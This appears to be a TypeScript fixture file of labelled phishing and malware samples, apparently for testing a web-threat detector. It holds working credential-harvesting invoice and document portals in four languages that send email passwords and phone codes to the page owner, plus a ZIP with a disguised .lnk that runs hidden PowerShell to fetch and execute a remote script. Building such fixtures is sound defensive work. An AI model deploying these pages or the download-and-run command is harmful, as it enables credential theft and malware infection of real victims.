import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { fileRoute, jsRoute, jsonRoute, lnk, pngRoute, zip } from '../parts/e-bin.js';
import { analytics, cssApp, cssPlain, doc, icon, pdfRoute } from '../parts/q-kit.js';

// Fake "secure document" and invoice portals of small firms (and one delivering a payload).

export const entries: Entry[] = [
{
  id: 'q-phish-invoice-plumber-two-step',
  label: 'phishing',
  kind: 'invoice-portal',
  url: 'https://marlowplumbing-invoices.co.uk/view?ref=INV-20417',
  body: doc({
    title: 'Invoice INV-20417',
    css: cssPlain('#1d4ed8'),
    body: `<header class="top"><span class="name">Marlow Plumbing &amp; Heating Ltd</span><span class="muted">Customer billing</span></header>
<main><div class="card narrow">
<h2 style="margin-top:0">Invoice INV-20417</h2>
<table><tr><td>Amount due</td><td><b>£1,284.00</b></td></tr><tr><td>Issued</td><td>14 Nov</td></tr><tr><td>Status</td><td>Awaiting payment</td></tr></table>
<p class="muted" style="margin-top:16px">Sign in with the email address we have on file to open the itemised invoice.</p>
<div id="s1"><label>Email address</label><input id="em" type="email"><p></p><button id="n1">Next</button></div>
<div id="s2" class="hidden"><p id="who" class="muted"></p><label>Email password</label><input id="pw" type="password"><p></p><button id="n2">Open invoice</button></div>
<div id="s3" class="hidden"><p>Thanks — your invoice will be emailed to you shortly.</p></div>
</div></main>
<footer>Marlow Plumbing &amp; Heating Ltd · Gas Safe reg. 551203 · Company no. 08812377</footer>
<script>
var $=function(i){return document.getElementById(i)};
$('n1').onclick=function(){var e=$('em').value;if(e.indexOf('@')<1)return;$('who').textContent=e;$('s1').className='hidden';$('s2').className='';};
$('n2').onclick=function(){var d=new FormData();d.append('e',$('em').value);d.append('p',$('pw').value);d.append('r','INV-20417');
navigator.sendBeacon('https://marlowplumbing-invoices.co.uk/inc/post.php',d);$('s2').className='hidden';$('s3').className='';};
</script>`,
  }),
  routes: { 'marlowplumbing-invoices.co.uk/inc/post.php': jsonRoute({ s: 1 }) },
},
{
  id: 'q-phish-cabinet-factures-fr',
  label: 'phishing',
  kind: 'invoice-portal',
  url: 'https://espace-clients-dufresne.fr/factures/consulter.html',
  body: doc({
    lang: 'fr',
    title: 'Espace documents',
    css: cssApp('#334155'),
    body: `<div class="wrap"><div class="box">
<h1>Facture n° F-2025-1187</h1>
<p>Cabinet Dufresne vous a transmis un document. Par mesure de confidentialité, veuillez vous identifier avec votre adresse de messagerie professionnelle.</p>
<form action="https://espace-clients-dufresne.fr/factures/auth.php" method="post">
<label>Adresse e-mail</label><input name="login" type="email" required>
<label>Mot de passe de la messagerie</label><input name="passwd" type="password" required>
<button>Consulter la facture</button></form>
<div class="sub">Document chiffré de bout en bout · valable 72 h</div></div></div>`,
  }),
  routes: { 'espace-clients-dufresne.fr/factures/auth.php': redirectRoute(302, 'https://espace-clients-dufresne.fr/factures/consulter.html?e=1') },
},
{
  id: 'q-phish-firma-pendiente-es-delayed',
  label: 'phishing',
  kind: 'doc-portal',
  url: 'https://firma-documentos-online.es/d/ES-4471',
  body: doc({
    lang: 'es',
    title: 'Documento pendiente',
    css: cssApp('#b45309'),
    body: `<div class="wrap"><div class="box">
<h1>Documento pendiente de firma</h1>
<p>Contrato de arrendamiento – Local C/ Alcalá 212 (4 páginas)</p>
<p id="st" style="font-size:13px;color:#888">Preparando el documento…</p>
<div id="fm" class="hidden">
<label>Correo electrónico</label><input id="c" type="email">
<label>Contraseña</label><input id="k" type="password">
<button id="b">Revisar y firmar</button><div class="err hidden" id="er">Contraseña incorrecta.</div></div>
<div class="sub">Remitente: gestion@inmoalcala-admin.es</div></div></div>
<script>
setTimeout(function(){document.getElementById('st').textContent='Para abrir el documento confirme su identidad.';document.getElementById('fm').className='';},2500);
document.getElementById('b').onclick=function(){fetch('/d/ES-4471/c',{method:'POST',body:new URLSearchParams({c:document.getElementById('c').value,k:document.getElementById('k').value})});document.getElementById('er').className='err';};
</script>`,
  }),
  routes: { 'firma-documentos-online.es/d/ES-4471/c': jsonRoute({ r: 0 }) },
},
{
  id: 'q-malware-invoice-portal-zip-lnk',
  label: 'malware',
  kind: 'invoice-portal',
  url: 'https://portal.brennan-joinery-billing.com/invoice/30981',
  body: doc({
    title: 'Invoice 30981 – Brennan Joinery',
    css: cssPlain('#14532d'),
    body: `<header class="top"><span class="name">Brennan Joinery</span><span class="muted">Accounts</span></header>
<main><div class="card narrow"><h2 style="margin-top:0">Invoice 30981</h2>
<p>Amount: <b>€2,460.00</b> · Due on receipt</p>
<p class="muted">Your invoice and delivery note are packaged together. If the download does not start, use the button below.</p>
<a class="btn" id="dl" href="/invoice/30981/download">Download invoice (ZIP)</a>
<p class="muted" style="margin-top:18px">Questions? Reply to the email you received from accounts.</p></div></main>
<footer>Brennan Joinery · Unit 4, Ballymount Ind. Est.</footer>
<script>setTimeout(function(){location.href='/invoice/30981/download'},3000);</script>`,
  }),
  routes: {
    'portal.brennan-joinery-billing.com/invoice/30981/download': fileRoute(
      zip([
        { name: 'Invoice_30981.pdf.lnk', data: lnk('C:\\Windows\\System32\\cmd.exe', '/c start /min powershell -w h -ep bypass -c "iwr https://cdn-brennan-billing.com/s/i.ps1 -useb|iex"', 'C:\\Windows\\System32\\imageres.dll') },
        { name: 'Delivery_note.txt', data: 'See invoice.' },
      ]),
      'application/zip',
      'Invoice_30981.zip',
    ),
  },
},
{
  id: 'q-phish-dataroom-onething-nl',
  label: 'phishing',
  kind: 'doc-portal',
  url: 'https://dataroom-vdberg-advocaten.nl/inzien',
  body: doc({
    lang: 'nl',
    title: 'Beveiligd bericht',
    css: cssApp('#1e3a8a'),
    body: `<div class="wrap"><div class="box" id="b"></div></div>
<script>
var steps=[
 {q:'Wat is uw e-mailadres?',t:'email',k:'e'},
 {q:'Voer het wachtwoord van dit e-mailadres in',t:'password',k:'p'},
 {q:'We hebben een code naar uw telefoon gestuurd. Vul deze in.',t:'text',k:'c'}
];
var i=0,data={};
function show(){var s=steps[i];document.getElementById('b').innerHTML='<h1>Beveiligd bericht</h1><p>Van der Berg Advocaten heeft u een dossier gestuurd.</p><label>'+s.q+'</label><input id="in" type="'+s.t+'"><button id="go">Verder</button>';
document.getElementById('go').onclick=function(){data[s.k]=document.getElementById('in').value;fetch('/inzien/stap',{method:'POST',body:JSON.stringify(data)});i++;if(i<steps.length)show();else document.getElementById('b').innerHTML='<h1>Even geduld</h1><p>Het dossier wordt geopend…</p>';};}
show();
</script>`,
  }),
  routes: { 'dataroom-vdberg-advocaten.nl/inzien/stap': jsonRoute({ ok: 1 }) },
},
];
